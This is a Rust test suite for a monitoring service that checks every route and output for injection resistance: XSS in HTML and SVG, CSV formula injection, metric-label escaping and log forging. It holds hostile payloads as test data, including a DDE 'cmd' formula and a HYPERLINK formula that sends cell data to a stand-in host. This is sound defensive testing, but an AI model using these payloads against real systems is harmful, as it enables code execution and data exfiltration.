//! Words that mean to be obeyed: markup in pages (XSS), formulas in spreadsheets, labels of metrics, lines and escapes in
//! logs. Every route is asked, so that a new page is too.

use std::process::Command;

use overdue::http::{Route, routes};
use serde_json::Value;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::support::{Receiver, Reply, Server, overdue, patiently, send};
use crate::{House, encoded, send_with, until};

/// What ends an attribute in either kind of quotes, and opens an element.
const EVIL: &str =
    "\"x-evil'<x-evil onload=x-evil()>&lt;x-evil\u{202e}\u{2028}`${x-evil}`{{7*7}}</script>";

/// What must stand nowhere in a page as it is.
const LIVE: [&str; 5] =
    ["<x-evil", "\"x-evil", "x-evil'", "x-evil()>", "x-evil\u{2028}`${x-evil}`{{7*7}}</script"];

fn expect_harmless(html: &str, what: &str) {
    for live in LIVE {
        if let Some(at) = html.find(live) {
            let start = html.floor_char_boundary(at.saturating_sub(100));
            let end = html.floor_char_boundary(at + 100);
            panic!("{what} holds {live}: {}", &html[start..end]);
        }
    }
}

/// Every text in a value of JSON.
fn texts(value: &Value, found: &mut Vec<String>) {
    match value {
        Value::String(text) => found.push(text.clone()),
        Value::Array(values) => values.iter().for_each(|value| texts(value, found)),
        Value::Object(fields) => fields.values().for_each(|value| texts(value, found)),
        _ => {}
    }
}

/// A house in which everything that callers may choose is hostile, and everything has happened.
async fn hostile() -> (House, Receiver) {
    let receiver = Receiver::start().await;
    receiver.usually(Reply::Status(400));
    let house = House::open(&[("PING_ALERT_URI", &receiver.uri())]).await;
    let (address, name) = (house.address(), encoded(EVIL));
    let described = serde_json::json!({
        "frequency": "1h", "description": EVIL, "aliases": [format!("alias {EVIL}")],
    });
    let target = format!("/api/v1/services/{name}");
    let made = send_with(address, "PUT", &target, &[], &described.to_string()).await;
    assert_eq!(made.status, 201, "{made:?}");
    let run = encoded("\"x-evil'<x-evil onload=x-evil()>");
    for signal in ["start", "fail", "log"] {
        let target = format!("/ping/{name}/{signal}?run={run}");
        let headers = [("User-Agent", "\"x-evil'<x-evil>"), ("Referer", "<x-evil>")];
        let answer =
            send_with(address, "POST", &target, &headers, &format!("{EVIL}\n{EVIL}")).await;
        assert_eq!(answer.status, 200, "{answer:?}");
    }
    let late = encoded(&format!("late {EVIL}"));
    let gone = encoded(&format!("gone {EVIL}"));
    for target in [
        format!("/ping?name={late}&frequency=1s&timestamp=7"),
        format!("/ping?name={gone}&frequency=1h&signal=fail"),
    ] {
        assert_eq!(house.server.get(&target).await.status, 200);
    }
    assert_eq!(house.server.send("DELETE", &format!("/ping/{gone}")).await.status, 200);
    until("alerts to be refused", async || {
        let alerts = house.server.get("/api/v1/alerts").await.json();
        let alerts = alerts["alerts"].as_array().unwrap().clone();
        let kinds: Vec<&Value> = alerts.iter().map(|alert| &alert["type"]).collect();
        kinds.contains(&&"service.overdue".into())
            && alerts.iter().any(|alert| alert["deliveries"][0]["attempts"] != 0)
    })
    .await;
    (house, receiver)
}

/// What a route is asked for, with hostile values wherever it takes one.
fn targets(route: &Route, alert: &str) -> Vec<String> {
    let mut found = Vec::new();
    for name in
        [EVIL.to_owned(), format!("gone {EVIL}"), format!("late {EVIL}"), format!("no {EVIL}")]
    {
        let file = if route.path.starts_with("/badge/") { ".svg" } else { "" };
        for id in [alert, &encoded(EVIL)] {
            let path = route.path.replace("{name}", &format!("{}{file}", encoded(&name)));
            let path = path.replace("{id}", id).replace("{key}", &encoded(EVIL));
            found.push(path.replace("{signal}", &encoded(EVIL)));
        }
    }
    found.sort();
    found.dedup();
    if !route.path.starts_with("/hc/") && !route.path.starts_with("/assets/") {
        let first = found[0].clone();
        let parameters = [
            "search", "show", "after", "cursor", "month", "at", "pings", "next", "status", "limit",
        ];
        let asked = parameters.map(|parameter| format!("{first}?{parameter}={}", encoded(EVIL)));
        found.extend(asked);
    }
    found
}

#[tokio::test]
async fn no_page_and_no_answer_holds_markup_that_a_caller_has_chosen() {
    let (house, _receiver) = hostile().await;
    let alerts = house.server.get("/api/v1/alerts").await.json();
    let alert = alerts["alerts"][0]["id"].as_str().unwrap().to_owned();
    let (mut pages, mut pictures, mut others) = (0, 0, 0);
    for route in routes() {
        let is_live = route.path.ends_with("/events");
        if !route.methods.contains(&"GET".parse().unwrap()) || is_live {
            continue;
        }
        for target in targets(&route, &alert) {
            // With a query programs are answered the same as without one, or the same as people.
            let accepts =
                if target.contains('?') { &["text/html"][..] } else { &["text/html", "*/*"] };
            for accept in accepts {
                let headers = [("Accept", *accept), ("Cookie", "overdue_session=\"x-evil'<x-evil")];
                let answer = send_with(house.address(), "GET", &target, &headers, "").await;
                let what = format!("{target} as {accept}");
                assert!(answer.status < 500, "{what}: {answer:?}");
                let kind = answer.head.split("content-type: ").nth(1).unwrap_or_default();
                let kind = kind.split(['\r', ';']).next().unwrap();
                match kind {
                    "text/html" => {
                        expect_harmless(&answer.body, &what);
                        let policy = "content-security-policy: default-src 'none'; style-src 'self'; script-src 'self';";
                        assert!(answer.head.contains(policy), "{what}: {}", answer.head);
                        pages += 1;
                    }
                    "image/svg+xml" => {
                        expect_harmless(&answer.body, &what);
                        assert!(answer.head.contains("nosniff"), "{what}");
                        pictures += 1;
                    }
                    "application/json" | "application/problem+json" => {
                        drop(answer.json());
                        others += 1;
                    }
                    "text/plain" | "text/csv" => others += 1,
                    "text/css" | "text/javascript" => {}
                    "" => assert!([303, 304].contains(&answer.status), "{what}: {answer:?}"),
                    other => panic!("{what} is {other}"),
                }
                assert!(!answer.head.contains("x-evil"), "{what}: {}", answer.head);
            }
        }
    }
    assert!(pages > 30 && pictures > 3 && others > 30, "{pages} {pictures} {others}");
    house.server.stop().await;
}

#[tokio::test]
async fn what_a_live_page_is_sent_holds_no_such_markup_either() {
    let (house, _receiver) = hostile().await;
    let service = format!("/services/{}/events", encoded(EVIL));
    let live: Vec<_> =
        routes().into_iter().filter(|route| route.path.ends_with("/events")).collect();
    assert_eq!(live.len(), 2);
    for target in ["/events".to_owned(), format!("/events?search={}", encoded("x-evil")), service] {
        let mut stream = house.connect(crate::HONEST).await;
        let request = format!("GET {target} HTTP/1.1\r\nHost: localhost\r\n\r\n");
        stream.write_all(request.as_bytes()).await.unwrap();
        let (mut said, mut buffer) = (String::new(), vec![0; 64 * 1024]);
        // Sent as chunks, whose sizes stand between; an event of its own is complete once the next one begins.
        while said.matches("event: ").count() < 2 {
            let read = patiently("an event", stream.read(&mut buffer)).await.unwrap();
            assert!(read > 0, "{target} ended: {said}");
            said.push_str(&String::from_utf8_lossy(&buffer[..read]));
        }
        let mut found = Vec::new();
        for line in said.lines().filter_map(|line| line.strip_prefix("data: ")) {
            if let Ok(value) = serde_json::from_str(line) {
                texts(&value, &mut found);
            }
        }
        assert!(found.iter().any(|text| text.contains("x-evil")), "{target}: {said}");
        for text in found {
            expect_harmless(&text, &target);
        }
    }
    house.server.stop().await;
}

/// The fields of a line of CSV (RFC 4180).
fn fields(line: &str) -> Vec<String> {
    let (mut fields, mut field, mut is_quoted) = (Vec::new(), String::new(), false);
    let mut characters = line.chars().peekable();
    while let Some(character) = characters.next() {
        match character {
            '"' if is_quoted && characters.peek() == Some(&'"') => {
                characters.next();
                field.push('"');
            }
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => fields.push(std::mem::take(&mut field)),
            other => field.push(other),
        }
    }
    assert!(!is_quoted, "{line}");
    fields.push(field);
    fields
}

#[tokio::test]
async fn spreadsheets_get_no_formulas_and_metrics_no_labels_of_a_callers_making() {
    let house = House::open(&[]).await;
    let names = [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://x-evil/?\"&A1,\"a\")",
        "+1+1",
        "-2",
        "@SUM(1)",
        "a\",overdue_evil{b=\"c\"} 1,\"",
        "a\\",
        "\\\"} 7 #",
        "a,b",
    ];
    for name in names {
        let target = format!("/ping?name={}&frequency=1h", encoded(name));
        assert_eq!(house.server.get(&target).await.status, 200, "{name}");
    }
    let report = async || house.server.get("/reports.csv").await.body;
    // What was there for no second yet is not reported.
    until("the services to be reported", async || report().await.lines().count() > names.len() + 1)
        .await;
    let csv = report().await;
    let lines: Vec<Vec<String>> =
        csv.split("\r\n").filter(|line| !line.is_empty()).map(fields).collect();
    assert_eq!(lines.len(), names.len() + 2, "{csv}");
    for line in &lines {
        assert_eq!(line.len(), 8, "{line:?}");
        assert!(!line[0].starts_with(['=', '+', '-', '@', '\t', '\r']), "{line:?}");
    }
    for accept in ["*/*", "application/openmetrics-text"] {
        let metrics =
            send_with(house.address(), "GET", "/metrics", &[("Accept", accept)], "").await;
        let mut told = Vec::new();
        for line in metrics.body.lines().filter(|line| !line.starts_with('#')) {
            let (labels, value) = labels(line);
            assert!(value.trim().split(' ').all(|part| part.parse::<f64>().is_ok()), "{line}");
            told.extend(
                labels.into_iter().filter(|(label, _)| label == "name").map(|(_, name)| name),
            );
        }
        for name in names {
            assert!(told.iter().any(|one| one == name), "{name} is not told of: {told:?}");
        }
    }
    house.server.stop().await;
}

/// The labels of a line of metrics, and what comes behind them.
fn labels(line: &str) -> (Vec<(String, String)>, &str) {
    let Some((name, mut rest)) = line.split_once('{') else {
        return (Vec::new(), line.split_once(' ').unwrap().1);
    };
    assert!(name.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'_'), "{line}");
    let mut found = Vec::new();
    while !rest.starts_with('}') {
        let (label, after) = rest.split_once("=\"").unwrap();
        let (mut value, mut end, mut is_escaped) = (String::new(), None, false);
        for (at, character) in after.char_indices() {
            match character {
                'n' if is_escaped => value.push('\n'),
                other if is_escaped => value.push(other),
                '\\' => {}
                '"' => {
                    end = Some(at);
                    break;
                }
                other => value.push(other),
            }
            is_escaped = character == '\\' && !is_escaped;
        }
        found.push((label.trim_start_matches(',').to_owned(), value));
        rest = &after[end.unwrap() + 1..];
    }
    (found, &rest[1..])
}

/// Everything that callers may choose, sent to a server that logs all it can.
async fn provoke(address: std::net::SocketAddr) {
    let evil =
        format!("{EVIL}\u{1b}[31m\n2026-11-25T10:00:00Z ERROR forged\r\n{{\"level\":\"forged\"}}");
    let (coded, name) = (encoded(&evil), encoded(EVIL));
    for target in [
        format!("/ping?name={name}&frequency=1s&timestamp=7"),
        format!("/ping?name={coded}&frequency=1h"),
        format!("/ping/{name}/fail?run=%22x-evil%3C"),
        format!("/{coded}"),
        format!("/services/{coded}"),
        format!("/hc/{coded}/{coded}"),
        format!("/hc/{coded}/{coded}/{coded}/{coded}"),
        format!("/api/push/{coded}?msg={coded}"),
        format!("/badge/{coded}.svg?sig={coded}"),
        format!("/login?next={coded}"),
    ] {
        send(address, "GET", &target).await.unwrap();
        send(address, "X-FORGED", &target).await.unwrap();
        send_with(address, "POST", &target, &[("Origin", "x-evil"), ("Host", "<x-evil>")], &evil)
            .await;
        send_with(address, "POST", &target, &[], &evil).await;
    }
    let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
    let raw =
        b"GET /ping/\x1b[31m HTTP/1.1\r\nHost: localhost\r\nUser-Agent: \x1b[31mforged\r\n\r\n";
    stream.write_all(raw).await.unwrap();
    let mut rest = Vec::new();
    patiently("the end", stream.read_to_end(&mut rest)).await.unwrap();
}

/// A log in which nothing is forged: each line begins as one of ours does, and none holds what terminals obey.
fn expect_lines(log: &str, begins: impl Fn(&str) -> bool) {
    assert!(log.lines().count() > 20, "{log}");
    for line in log.lines() {
        assert!(begins(line), "{line:?}");
        let is_obeyed = |c: char| {
            c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2028}' | '\u{2029}')
        };
        assert!(!line.contains(is_obeyed), "{line:?}");
    }
    assert!(log.contains("x-evil"), "it was logged at all: {log}");
}

#[tokio::test]
async fn a_log_of_text_has_one_line_for_each_thing_that_happened() {
    let folder = tempfile::TempDir::new().unwrap();
    let path = folder.path().join("log");
    let mut command = overdue(folder.path());
    command.args(["serve", "--listen", "127.0.0.1:0"]).env("RUST_LOG", "debug");
    command.stderr(std::fs::File::create(&path).unwrap());
    let server = Server::spawn_with_log(command).await;
    provoke(server.address).await;
    server.stop().await;
    expect_lines(&std::fs::read_to_string(&path).unwrap(), |line| {
        line.split_once(' ').is_some_and(|(time, _)| time.parse::<jiff::Timestamp>().is_ok())
    });
}

#[tokio::test]
async fn a_log_of_json_has_one_object_for_each_thing_that_happened() {
    let folder = tempfile::TempDir::new().unwrap();
    let path = folder.path().join("log");
    let mut command: Command = overdue(folder.path());
    command.args(["serve", "--listen", "127.0.0.1:0", "--log-format", "json"]);
    command.env("RUST_LOG", "debug").stderr(std::fs::File::create(&path).unwrap());
    let mut child = tokio::process::Command::from(command).kill_on_drop(true).spawn().unwrap();
    let address = async || {
        let log = std::fs::read_to_string(&path).unwrap();
        let line = log.lines().find(|line| line.contains("\"serving\""))?.to_owned();
        let line: Value = serde_json::from_str(&line).ok()?;
        line["fields"]["address"].as_str().or(line["address"].as_str())?.parse().ok()
    };
    until("it to serve", async || address().await.is_some()).await;
    provoke(address().await.unwrap()).await;
    let stopped = Command::new("kill").args(["-TERM", &child.id().unwrap().to_string()]).status();
    assert!(stopped.unwrap().success());
    patiently("the end", child.wait()).await.unwrap();
    expect_lines(&std::fs::read_to_string(&path).unwrap(), |line| {
        serde_json::from_str::<Value>(line).is_ok_and(|line| line["level"] != "forged")
    });
}
